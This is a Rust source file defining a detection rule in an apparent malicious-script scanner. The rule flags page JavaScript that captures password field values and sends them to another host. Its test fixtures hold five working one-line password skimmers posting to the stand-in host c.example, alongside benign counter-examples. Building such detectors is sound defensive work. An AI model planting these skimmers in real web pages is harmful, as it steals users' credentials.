//! `every-password-sent`.

use crate::facts::Atom;
use crate::lex::Op;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "every-password-sent",
    description: "The script waits for passwords in whatever form the page has, and sends them to another host.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::FieldSentAbroad])],
    within: 0,
    only_if: Some(waits),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "document.addEventListener('change',e=>{if(e.target.type=='password'){fetch('https://c.example/',{method:'POST',body:location.host+':'+e.target.value})}},true)",
            "document.addEventListener('blur',function(e){'password'===e.target.type&&navigator.sendBeacon('https://c.example/',e.target.value)},true)",
            "document.addEventListener('focusout',e=>{if(e.target.matches('input[type=password]'))new Image().src='https://c.example/?p='+e.target.value})",
            "document.querySelectorAll('input[type=\"password\"]').forEach(f=>f.addEventListener('change',()=>fetch('https://c.example/?p='+f.value)))",
            "$(document).on('blur','input[type=password]',function(){$.post('https://c.example/p',{p:$(this).val()})})",
        ],
        without: &[
            // What records a session leaves passwords out.
            "document.addEventListener('change',e=>{if(e.target.type==='password')return;fetch('https://c.example/',{method:'POST',body:e.target.value})},true)",
            "document.addEventListener('change',e=>{if(e.target.type!=='password')fetch('https://c.example/',{method:'POST',body:e.target.value})},true)",
            "document.addEventListener('change',e=>{var v=e.target.type==='password'?'***':e.target.value;fetch('https://c.example/',{method:'POST',body:v})},true)",
            "document.addEventListener('change',e=>{if(e.target.type=='password')fetch('/strength',{method:'POST',body:e.target.value})},true)",
            // A form of one's own.
            "form.addEventListener('submit',e=>{fetch('https://login.example/',{method:'POST',body:JSON.stringify({p:form.querySelector('input[type=password]').value})})})",
            // Whether a password is known from a leak is asked with a piece of its digest.
            "document.querySelectorAll('input[type=password]').forEach(f=>f.addEventListener('change',async()=>{const d=await crypto.subtle.digest('SHA-1',new TextEncoder().encode(f.value));fetch('https://leaks.example/range/'+hex(d).slice(0,5))}))",
        ],
    },
};

fn waits(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, AROUND);
    let hashes = near.has_word(&["digest", "sha1", "SHA1", "sha256"]);
    !hashes && near.words(&["addEventListener", "on"]).any(|at| waits_at(near, at))
}

/// Whether a call at an item listens to the passwords of the page, and sends what is in them.
fn waits_at(near: Near<'_>, at: usize) -> bool {
    let listens = near.is(at + 1, b'(') && EVENTS.contains(&near.word(at + 2));
    let Some(body) = near.function_in(at + 3..at + 8).filter(|_| listens) else { return false };
    let inside = near.among(body.clone());
    if !inside.has_fact(&[Atom::FieldSentAbroad]) {
        return false;
    }
    let of_page = matches!(near.before(at, 1), "document" | "window" | "body" | "documentElement")
        || near.is(at.wrapping_sub(1), b')') && matches!(near.before(at, 2), "document" | "window" | "body");
    let chosen = |items: std::ops::Range<usize>| {
        near.among(items).texts().any(|(at, text)| is_selector(&text) && !is_left_out(near, at))
    };
    if of_page {
        let asked = inside.places().any(|at| near.text_at(at) == Some("password") && asks(near, at));
        return asked || chosen(at + 2..body.end);
    }
    // `document.querySelectorAll('input[type=password]').forEach(field => field.addEventListener(…))`
    let each = at.saturating_sub(EACH)..at;
    near.among(each.clone()).has_word(&["forEach", "each", "of"]) && chosen(each)
}

/// Whether the text at an item is what the type of a field has to be for what follows.
fn asks(near: Near<'_>, at: usize) -> bool {
    let same =
        |at: usize| near.item(at).is_some_and(|item| item.op == Op::of(b"==") || item.op == Op::of(b"==="));
    let compared = same(at.wrapping_sub(1)) && near.before(at, 2) == "type"
        || same(at + 1) && (at + 2..at + 6).any(|at| near.word(at) == "type");
    compared && !is_left_out(near, at)
}

/// Whether what is compared or matched at an item is left out: `if (…) return`, `… ? mask : value`, `!field.matches(…)`.
fn is_left_out(near: Near<'_>, at: usize) -> bool {
    let ends = (at + 1..at + END).find(|at| {
        near.is(*at, b')')
            || near.is(*at, b'?')
            || near.item(*at).is_some_and(|item| item.op == Op::of(b"&&"))
    });
    let Some(end) = ends else { return true };
    let mut after = end;
    while near.is(after, b')') {
        after += 1;
    }
    let negated = (at.saturating_sub(END)..at)
        .rev()
        .take_while(|at| !near.is(*at, b';') && !near.is(*at, b'{'))
        .any(|at| near.is(at, b'!'));
    negated
        || near.is(end, b'?')
        || near.is(after, b'?')
        || near.kind(after) == Some(Kind::Keyword) && matches!(near.word(after), "return" | "continue")
}

fn is_selector(text: &str) -> bool {
    ["[type=password]", "[type=\"password\"]", "[type='password']", ":password"]
        .iter()
        .any(|selector| text.contains(selector))
}

const EVENTS: &[&str] =
    &["change", "input", "blur", "focusout", "keyup", "keydown", "submit", "click", "beforeunload"];
/// Items around what is sent.
const AROUND: usize = 160;
/// Items between the fields that are looked for and what listens to each.
const EACH: usize = 24;
/// Items of a comparison.
const END: usize = 8;
